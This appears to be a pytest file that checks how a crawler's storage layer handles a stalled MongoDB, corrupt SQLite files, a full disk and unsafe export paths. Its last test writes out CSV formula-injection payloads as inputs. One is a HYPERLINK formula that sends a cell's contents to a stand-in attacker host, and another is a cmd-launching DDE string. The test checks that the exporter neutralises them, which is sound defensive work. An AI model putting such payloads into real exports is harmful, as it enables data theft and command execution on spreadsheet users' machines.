"""A hostile store: stalled or refusing MongoDB, corrupt or unreadable SQLite, a full disk, exports aimed at the store.

Each case is a fault an operator meets in production. The rules (README "Guarantees"): only an unreachable or stalled
server spools, within the MongoDB timeouts, and only into its own store's spool folder; a store that cannot be used
as itself stops the crawl before anything is fetched and ends every ``gongkai`` command with one line and exit 2;
a full disk is logged once with its cause, held in bounded memory, then stops the crawl with an alert; an export
never overwrites the store and never writes a formula into a CSV cell.
"""

from __future__ import annotations

import csv
import errno
import io
import logging
import os
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from crawl_support import REPO, portal_handler, run_scrapy, scrapy_env, serve
from mongo_stall import fake_mongo
from scrapy.exceptions import CloseSpider
from test_spool import _closed_port
from test_store_backends import T0, doc

from gongkai_spider.errors import EXIT_CONFIG, StoreUnusable
from gongkai_spider.storage import open_store
from gongkai_spider.storage.base import is_outage, is_unusable, mongo_identity, sqlite_identity
from gongkai_spider.storage.mongo import MongoStore
from gongkai_spider.storage.spool import Spool, store_folder
from gongkai_spider.storage.sqlite import SQLiteStore
from pipelines.store import StorePipeline

SOCKET_TIMEOUT_MS = 2000
# A stalled server costs at most about twice the socket timeout per operation (pymongo retries a read once).
STALL_BOUND = 2 * SOCKET_TIMEOUT_MS / 1000
STALL_ENV = {"MONGO_SERVER_SELECTION_TIMEOUT_MS": "2000", "MONGO_CONNECT_TIMEOUT_MS": "2000",
             "MONGO_SOCKET_TIMEOUT_MS": str(SOCKET_TIMEOUT_MS)}


def gongkai(args: list[str], env: dict[str, str], timeout: float = 60) -> subprocess.CompletedProcess:
    """``gongkai ARGS`` from this checkout, as a subprocess (a hang is a failure, not a stuck test run)."""
    return subprocess.run([sys.executable, "-m", "gongkai_spider.cli", *args], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=timeout)


def assert_one_line_exit_2(done: subprocess.CompletedProcess, command: str, *words: str) -> None:
    assert done.returncode == EXIT_CONFIG, done.stderr[-3000:]
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"gongkai {command}: "), done.stderr[-3000:]
    for word in words:
        assert word in lines[0]


def command_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in {"MONGO_URI", "REDIS_URL", "JOBDIR"}}
    env.update(GONGKAI_DB=str(tmp_path / "store.sqlite3"), GONGKAI_SPOOL_DIR=str(tmp_path / "spool"),
               PYTHONWARNINGS="ignore", **extra)
    return env


def garbage_file(path: Path) -> Path:
    path.write_bytes(b"not a database: the last disk repair left this text here\n" * 200)
    return path


def corrupt_pages(path: Path) -> Path:
    """A real store whose header and schema survive but whose data pages were overwritten."""
    store = SQLiteStore(path)
    store.upsert_many([doc(i, body="正文" * 400) for i in range(1, 200)], now=T0)
    store.close()
    data = bytearray(path.read_bytes())
    for offset in range(4096 * 8, len(data), 4096 * 3):
        data[offset:offset + 64] = b"\xff" * 64
    path.write_bytes(bytes(data))
    return path


def spooled_files(root: Path) -> list[Path]:
    return sorted(root.rglob("spool-*.jsonl")) if root.exists() else []


# --------------------------------------------------------------------------------- item 4: a stalled MongoDB


def test_stalled_mongodb_crawl_spools_within_the_bound(tmp_path):
    """A server that completes the handshake, then never answers: the crawl spools and ends, bounded."""
    from gongkai_spider.demo import build_portal

    portal = build_portal({"seed": 6})
    with fake_mongo("stall") as mongo, serve({}, default=portal_handler(portal)) as server:
        env = scrapy_env(tmp_path, MONGO_URI=mongo.uri, GONGKAI_SPOOL_DIR=str(tmp_path / "spool"),
                         GONGKAI_SPOOL_RETRY_SECONDS="60", **STALL_ENV)
        started = time.monotonic()
        result = run_scrapy(["crawl", "gongkai", "-a", "site=demo", "-a", f"base_url={server.base}"], tmp_path,
                            env=env, timeout=STALL_BOUND + 30)
        elapsed = time.monotonic() - started
        stalled = mongo.stalled
    assert elapsed < STALL_BOUND + 30
    assert stalled, "the crawl never reached the stalled server"
    assert result.stats.get("gongkai/store/spooled", 0) >= 6, result.log[-3000:]
    folder = store_folder(tmp_path / "spool", mongo_identity(mongo.uri, "gongkai"))
    assert sum(len(p.read_text(encoding="utf-8").splitlines()) for p in spooled_files(folder)) >= 6
    assert not result.stats.get("gongkai/store/lost")


@pytest.mark.parametrize("argv", [["stats"], ["export", "--collection", "articles"], ["quarantine", "list"]])
def test_stalled_mongodb_commands_exit_2_with_one_line(tmp_path, argv):
    with fake_mongo("stall") as mongo:
        started = time.monotonic()
        done = gongkai(argv, command_env(tmp_path, MONGO_URI=mongo.uri, **STALL_ENV), timeout=STALL_BOUND + 30)
        elapsed = time.monotonic() - started
    assert_one_line_exit_2(done, argv[0], "store")
    assert elapsed < STALL_BOUND + 30
    assert "Traceback" not in done.stderr


def test_stalled_mongodb_store_calls_are_outages_within_the_socket_timeout():
    with fake_mongo("stall") as mongo:
        store = MongoStore(mongo.uri, "gongkai", server_selection_timeout_ms=2000, socket_timeout_ms=1000,
                           connect_timeout_ms=1000, retry_seconds=60)
        started = time.monotonic()
        with pytest.raises(Exception) as info:
            store.upsert_many([doc(1)], now=T0)
        assert is_outage(info.value) and not is_unusable(info.value)
        assert time.monotonic() - started < 2 * 1.0 + 1.5
        started = time.monotonic()
        with pytest.raises(Exception) as info:  # the circuit breaker: the next caller does not wait again
            store.existing_ids(["id0001"])
        assert is_outage(info.value) and time.monotonic() - started < 0.5
        store.close()


# ------------------------------------------------------------------------------- item 4: one spool per store


def _spool_for_unreachable_mongo(tmp_path: Path, uri: str) -> None:
    down = MongoStore(uri, "gongkai", server_selection_timeout_ms=200, retry_seconds=3600)
    pipeline = StorePipeline(store=down, batch_size=2, spool_dir=str(tmp_path / "spool"), retry_seconds=3600)
    pipeline.open_spider()
    for n in (1, 2, 3):
        pipeline.process_item(doc(n))
    pipeline.close_spider()
    down.close()
    assert pipeline.stats.get_value("gongkai/store/spooled") == 3


def test_documents_spooled_for_mongodb_are_not_replayed_into_sqlite(tmp_path):
    uri = f"mongodb://crawler:s3cret-pw@127.0.0.1:{_closed_port()}/?directConnection=true&authSource=admin"
    _spool_for_unreachable_mongo(tmp_path, uri)
    (folder,) = (tmp_path / "spool").glob("store-*")
    identity_text = (folder / "store.json").read_text(encoding="utf-8")
    assert "s3cret-pw" not in identity_text and "crawler" not in identity_text and "127.0.0.1" in identity_text

    sqlite = SQLiteStore(tmp_path / "store.sqlite3")
    later = StorePipeline(store=sqlite, spool_dir=str(tmp_path / "spool"))
    later.open_spider()
    later.close_spider()
    assert sqlite.count("articles") == 0
    assert later.stats.get_value("gongkai/store/replayed") is None
    assert Spool(tmp_path / "spool", mongo_identity(uri, "gongkai")).pending() == 3  # still waiting for its store
    sqlite.close()

    # the same server back (played by mongomock): its run replays them, whatever the credentials are now
    import mongomock_ng

    back = MongoStore(uri.replace("s3cret-pw", "rotated-pw"), "gongkai", client_factory=mongomock_ng.MongoClient)
    again = StorePipeline(store=back, spool_dir=str(tmp_path / "spool"))
    again.open_spider()
    again.close_spider()
    assert back.count("articles") == 3 and again.stats.get_value("gongkai/store/replayed") == 3
    assert spooled_files(tmp_path / "spool") == []
    back.close()


def test_a_different_database_on_the_same_server_is_another_store(tmp_path):
    uri = f"mongodb://127.0.0.1:{_closed_port()}/?directConnection=true"
    assert mongo_identity(uri, "gongkai") != mongo_identity(uri, "gongkai_staging")
    assert mongo_identity("mongodb://a:1,b:2/x", "db") == mongo_identity("mongodb://u:p@B:2,a:1/y?tls=true", "db")
    assert sqlite_identity(tmp_path / "a" / ".." / "s.db") == sqlite_identity(tmp_path / "s.db")


# ----------------------------------------------------------------------- item 5: a store that is not itself


@pytest.mark.parametrize("kind", ["garbage", "folder"])
def test_unusable_sqlite_file_stops_the_crawl_before_fetching(tmp_path, kind):
    from gongkai_spider.demo import build_portal

    db = tmp_path / "store.sqlite3"
    if kind == "garbage":
        garbage_file(db)
    else:
        db.mkdir()  # a path that cannot be opened as a file
    before = db.read_bytes() if kind == "garbage" else None
    with serve({}, default=portal_handler(build_portal({"seed": 3}))) as server:
        result = run_scrapy(["crawl", "gongkai", "-a", "site=demo", "-a", f"base_url={server.base}"], tmp_path,
                            env=scrapy_env(tmp_path, GONGKAI_SPOOL_DIR=str(tmp_path / "spool")), timeout=90)
        fetched = list(server.seen)
    assert result.returncode != 0, result.log[-3000:]
    assert result.stats.get("finish_reason") == "store_unusable", result.log[-3000:]
    assert fetched == []  # not even robots.txt
    assert not result.stats.get("gongkai/store/spooled") and spooled_files(tmp_path / "spool") == []
    if before is not None:
        assert db.read_bytes() == before  # left for the operator to inspect or restore
    assert "file is not a database" in result.log or "unable to open" in result.log


def test_failed_mongodb_auth_is_unusable_not_an_outage(tmp_path):
    with fake_mongo("auth_fail") as mongo:
        store = MongoStore(mongo.uri_with_credentials(), "gongkai", server_selection_timeout_ms=2000)
        with pytest.raises(StoreUnusable, match="Authentication failed") as info:
            store.ensure_ready()
        assert "wrong-secret" not in str(info.value)
        pipeline = StorePipeline(store=store, spool_dir=str(tmp_path / "spool"))
        with pytest.raises(CloseSpider) as closed:
            pipeline.open_spider()
        assert closed.value.reason == "store_unusable"
        pipeline.close_spider()
        store.close()
    assert spooled_files(tmp_path / "spool") == []


@pytest.mark.skipif(not os.environ.get("TEST_MONGO_URI"), reason="TEST_MONGO_URI not set (a real MongoDB)")
def test_wrong_password_on_a_real_mongodb_is_unusable(tmp_path):
    """A real server refuses a user that does not exist (AuthenticationFailed) whether or not it enforces auth."""
    uri = os.environ["TEST_MONGO_URI"]
    scheme, _, rest = uri.partition("://")
    wrong = f"{scheme}://gongkai_no_such_user:wrong-secret@{rest.rpartition('@')[2]}"
    store = MongoStore(wrong, "gongkai_test", server_selection_timeout_ms=3000)
    with pytest.raises(StoreUnusable, match="cannot use the store") as info:
        store.ensure_ready()
    assert "wrong-secret" not in str(info.value)
    store.close()


@pytest.mark.parametrize("uri", ["mongodb://db1:27017,db2:27017/?directConnection=true",
                                 "mongodb://crawler:pw@db1:27O17/"])
def test_bad_mongodb_uri_is_unusable(uri):
    with pytest.raises(StoreUnusable, match="mongodb") as info:
        open_store({"MONGO_URI": uri})
    assert ":pw@" not in str(info.value)


def test_store_found_unusable_mid_run_spools_the_batch_and_stops(tmp_path):
    """Corruption met on a write (SQLITE_CORRUPT): the batch in hand goes to the store's spool, the crawl stops."""
    class Malformed:
        def __init__(self, inner):
            self.inner = inner

        def upsert_many(self, docs, collection="articles", **kwargs):
            error = sqlite3.DatabaseError("database disk image is malformed")
            error.sqlite_errorcode, error.sqlite_errorname = 11, "SQLITE_CORRUPT"
            raise error

        def __getattr__(self, name):
            return getattr(self.inner, name)

    inner = SQLiteStore(tmp_path / "s.sqlite3")
    stops: list[str] = []
    pipeline = StorePipeline(store=Malformed(inner), batch_size=2, spool_dir=str(tmp_path / "spool"),
                             stop=stops.append)
    pipeline.open_spider()
    for n in range(1, 6):
        pipeline.process_item(doc(n))
    pipeline.close_spider()
    assert stops == ["store_unusable"]
    assert pipeline.stats.get_value("gongkai/store/spooled") == 5  # nothing lost: all in the store's spool
    assert pipeline.stats.get_value("gongkai/alert/store_unusable") == 1
    assert not pipeline.stats.get_value("gongkai/store/lost")
    assert len(spooled_files(store_folder(tmp_path / "spool", inner.identity))) == 1
    inner.close()


@pytest.mark.parametrize(("argv", "kind"), [
    *((argv, kind) for kind in ("garbage", "folder")
      for argv in (["stats"], ["export", "--format", "csv"], ["quarantine", "list"],
                   ["quarantine", "release", "http://example.invalid/a.html", "--note", "x"])),
    (["export"], "corrupt_pages"),  # header and schema intact: found while reading the documents
])
def test_unusable_sqlite_commands_exit_2_with_one_line(tmp_path, argv, kind):
    db = tmp_path / "store.sqlite3"
    if kind == "garbage":
        garbage_file(db)
    elif kind == "folder":
        db.mkdir()
    else:
        corrupt_pages(db)
    size = db.stat().st_size if db.is_file() else None
    done = gongkai(argv, command_env(tmp_path))
    assert_one_line_exit_2(done, argv[0], "store")
    assert "Traceback" not in done.stderr
    if size is not None:
        assert db.stat().st_size == size


def test_failed_mongodb_auth_commands_exit_2_with_one_line(tmp_path):
    with fake_mongo("auth_fail") as mongo:
        for argv in (["stats"], ["export"], ["quarantine", "list"]):
            done = gongkai(argv, command_env(tmp_path, MONGO_URI=mongo.uri_with_credentials(), **STALL_ENV))
            assert_one_line_exit_2(done, argv[0], "cannot use the store", "Authentication failed")
            assert "wrong-secret" not in done.stderr


# --------------------------------------------------------------------------------------- item 6: disk full


def test_disk_full_sqlite_error_names_the_real_cause(tmp_path):
    store = SQLiteStore(tmp_path / "full.sqlite3")
    store._conn.execute("PRAGMA max_page_count = 12")  # the disk fills after a few pages
    with pytest.raises(sqlite3.OperationalError, match="database or disk is full"):
        store.upsert_many([doc(i, body="正文" * 2000) for i in range(1, 40)], now=T0)
    assert not store._conn.in_transaction
    store.close()


def test_disk_full_store_and_spool_stop_the_crawl_with_bounded_memory(tmp_path, monkeypatch, caplog):
    store = SQLiteStore(tmp_path / "full.sqlite3")
    store._conn.execute("PRAGMA max_page_count = 12")
    appends: list[int] = []

    def no_space(self, collection, docs, now):
        appends.append(len(docs))
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Spool, "append", no_space)
    stops: list[str] = []
    pipeline = StorePipeline(store=store, batch_size=10, spool_dir=str(tmp_path / "spool"), retry_seconds=0,
                             max_buffered=50, stop=stops.append)
    caplog.set_level(logging.DEBUG, logger="pipelines.store")
    pipeline.open_spider()
    for n in range(1, 2001):
        pipeline.process_item(doc(n, body="正文" * 2000))
    pipeline.close_spider()

    assert stops == ["store_failing"]
    assert pipeline.stats.get_value("gongkai/alert/store_failing") == 1
    assert pipeline._buffered == 0 and pipeline.stats.get_value("gongkai/store/buffered_max") <= 50
    assert pipeline.stats.get_value("gongkai/store/lost") == 2000 - (pipeline.stats.get_value("gongkai/store/new")
                                                                     or 0)
    assert len(appends) <= 2000 // 10 + 2  # a try per batch, not per item
    assert max(appends) <= 50  # never the whole ever-growing buffer
    loud = [r for r in caplog.records if r.levelno >= logging.WARNING]
    assert sum("No space left on device" in r.getMessage() for r in loud) == 1
    assert sum("database or disk is full" in r.getMessage() for r in loud) == 1
    assert not any("cannot rollback" in r.getMessage() for r in caplog.records)
    assert not any(r.exc_info for r in loud)  # one line each, no traceback per item
    assert len(loud) <= 5
    store.close()


def test_disk_full_crawl_stops_with_the_store_failing_alert(tmp_path):
    """A real crawl with MongoDB away and a spool that cannot be written: it stops, it does not grow."""
    from gongkai_spider.demo import build_portal

    spool = tmp_path / "spool"
    spool.write_text("a file where the spool folder should be\n", encoding="utf-8")  # every spool write fails
    with serve({}, default=portal_handler(build_portal({"seed": 40}))) as server:
        env = scrapy_env(tmp_path, MONGO_URI=f"mongodb://127.0.0.1:{_closed_port()}/?directConnection=true",
                         MONGO_SERVER_SELECTION_TIMEOUT_MS="200", GONGKAI_SPOOL_DIR=str(spool),
                         GONGKAI_STORE_BATCH_SIZE="2", GONGKAI_STORE_MAX_BUFFERED="6", GONGKAI_SPOOL_RETRY_SECONDS="60")
        result = run_scrapy(["crawl", "gongkai", "-a", "site=demo", "-a", f"base_url={server.base}"], tmp_path,
                            env=env, timeout=120)
    assert result.returncode != 0, result.log[-3000:]
    assert result.stats.get("finish_reason") == "store_failing", result.log[-3000:]
    assert result.stats.get("gongkai/alert/store_failing") == 1
    assert result.stats.get("gongkai/store/buffered_max", 0) <= 6
    assert result.log.count("Traceback") == 0, result.log[-3000:]
    assert result.log.count("spool") < 20


# ------------------------------------------------------------------------------- item 7: hostile exports


@pytest.fixture
def filled(tmp_path):
    db = tmp_path / "store.sqlite3"
    store = SQLiteStore(db)
    store.upsert_many([doc(1), doc(2)], now=T0)
    store.close()
    return db


def _export_target(tmp_path: Path, db: Path, where: str) -> tuple[str, dict[str, str]]:
    env = command_env(tmp_path)
    if where == "store":
        return str(db), env
    if where == "store_via_symlink":
        link = tmp_path / "link.csv"
        link.symlink_to(db)
        return str(link), env
    if where == "wal":
        return str(db) + "-wal", env
    if where == "fingerprints":
        return str(db) + ".fingerprints", env
    if where == "spool":
        (tmp_path / "spool").mkdir()
        return str(tmp_path / "spool" / "out.jsonl"), env
    if where == "jobdir":
        job = tmp_path / "job"
        job.mkdir()
        (job / "requests.seen").write_text("", encoding="utf-8")
        return str(job / "out.jsonl"), env
    if where == "jobdir_env":
        return str(tmp_path / "job2" / "x.jsonl"), {**env, "JOBDIR": str(tmp_path / "job2")}
    if where == "missing_folder":
        return str(tmp_path / "no" / "such" / "out.csv"), env
    assert where == "folder"
    return str(tmp_path), env


@pytest.mark.parametrize("where", ["store", "store_via_symlink", "wal", "fingerprints", "spool", "jobdir",
                                   "jobdir_env", "missing_folder", "folder"])
def test_export_refuses_an_output_that_would_harm_the_store(tmp_path, filled, where):
    if where == "jobdir_env":
        (tmp_path / "job2").mkdir()
    output, env = _export_target(tmp_path, filled, where)
    size, data = filled.stat().st_size, filled.read_bytes()
    done = gongkai(["export", "--format", "csv", "--output", output], env)
    assert_one_line_exit_2(done, "export", "--output")
    assert filled.stat().st_size == size and filled.read_bytes() == data
    assert SQLiteStore(filled).count("articles") == 2


def test_export_to_a_plain_file_still_works(tmp_path, filled):
    done = gongkai(["export", "--output", str(tmp_path / "out.jsonl")], command_env(tmp_path))
    assert done.returncode == 0, done.stderr
    assert len((tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()) == 2


def test_csv_cells_a_spreadsheet_would_run_get_a_quote(tmp_path):
    from gongkai_spider.commands.export import write_csv

    hostile = doc(1, title='=HYPERLINK("http://evil.invalid/?"&A1,"查看")', author="+cmd|' /C calc'!A0",
                  source="-2+3", summary="@SUM(1+1)*cmd", body="\tTAB then =1+1", keywords=["=1+1"],
                  simhash=-1234567890123, read_count=-3)
    hostile["doc_meta"] = {"index_no": "\r=2+2"}
    out = io.StringIO()
    write_csv([hostile, doc(2, title="-5", author="-0.5e3", source="+86 10 1234 5678")], out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    first, second = rows
    assert first["title"].startswith("'=HYPERLINK")
    assert first["author"] == "'+cmd|' /C calc'!A0"
    assert first["source"] == "'-2+3"
    assert first["summary"] == "'@SUM(1+1)*cmd"
    assert first["body"].startswith("'\t")
    assert first["simhash"] == "-1234567890123" and first["read_count"] == "-3"  # plain numbers stay numbers
    assert first["keywords"] == '["=1+1"]'  # JSON text starts with [ : harmless
    assert second["title"] == "-5" and second["author"] == "-0.5e3"
    assert second["source"] == "'+86 10 1234 5678"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) or value[1:].replace(".", "").isdigit()
